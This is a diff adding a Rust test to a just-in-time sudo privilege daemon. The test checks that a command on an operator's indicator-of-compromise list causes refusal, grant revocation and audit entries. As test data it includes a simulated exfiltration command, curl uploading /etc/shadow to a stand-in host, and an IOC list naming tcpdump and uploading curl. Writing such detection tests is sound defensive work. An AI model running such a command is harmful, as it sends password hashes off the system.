@@ -15,6 +15,7 @@ use jit_core::snapshot::Snapshot;
 use jit_core::types::{ACCOUNT_MFA_REQUIRED, GATE_ARMED, GATE_ENABLE, GATE_MFA};
 use jit_proto::message::{MfaPurpose, Payload, SessionSpec};
 use jit_proto::{ErrorCode, GrantSpec, GrantState, Request, Response};
+use jitd::config::Config;
 use jitd::daemon::{Daemon, Peer};
 
 const ROOT: Peer = Peer { uid: 0, pid: 0 };
@@ -604,4 +605,70 @@ fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
         }
     }
     out
+}
+
+fn report(
+    d: &Daemon,
+    grant: &str,
+    command: &str,
+    argv: &[&str],
+    now: i64,
+) -> Result<Payload, (ErrorCode, String)> {
+    ask(
+        d,
+        ROOT,
+        Request::ReportSudo {
+            report: Box::new(jit_proto::message::SudoReport {
+                user: "carol".into(),
+                uid: 1001,
+                grant: Some(grant.into()),
+                command: command.into(),
+                argv: argv.iter().map(|a| a.to_string()).collect(),
+                runas: "root".into(),
+                allowed: true,
+                ..Default::default()
+            }),
+        },
+        now,
+    )
+}
+
+#[test]
+fn jitd_confirms_sudo_approvals_with_its_own_state_and_ioc_commands() {
+    let env = Env::new("confirm");
+    env.install_sudo_conf();
+    let d = env.daemon_with(T0, r#"ioc_commands = ["tcpdump", "/usr/bin/curl -T"]"#);
+    let g = add(
+        &d,
+        GrantSpec {
+            account: false,
+            sudo: vec!["ALL".into()],
+            revoke_on: vec!["ioc".into()],
+            ..spec("carol", 600)
+        },
+        T0,
+    )
+    .unwrap();
+    assert!(report(&d, &g.id, "/usr/bin/id", &[], T0).is_ok());
+    // An uploading curl is in the operator's IOC list: the approval becomes a refusal and the
+    // grant ends, though the plugin (which reads no config) approved it.
+    let e = report(
+        &d,
+        &g.id,
+        "/usr/bin/curl",
+        &["-T", "/etc/shadow", "http://x"],
+        T0 + 1,
+    )
+    .unwrap_err();
+    assert_eq!(e.0, ErrorCode::Refused);
+    assert!(e.1.contains("revoke-on ioc"), "{e:?}");
+    assert_eq!(state_of(&d, &g.id, T0 + 1), GrantState::Revoked);
+    // After the grant ended, an approval from a stale snapshot is not confirmed.
+    let e = report(&d, &g.id, "/usr/bin/id", &[], T0 + 2).unwrap_err();
+    assert!(e.1.contains("is not live"), "{e:?}");
+    let audit = env.audit();
+    assert_eq!(audit.matches("\"sudo.allowed\"").count(), 1, "{audit}");
+    assert_eq!(audit.matches("\"sudo.denied\"").count(), 2, "{audit}");
+    // A bad IOC entry is a configuration error, not silently ignored.
+    assert!(Config::parse(r#"ioc_commands = ["ALL"]"#, None).is_err());
 }
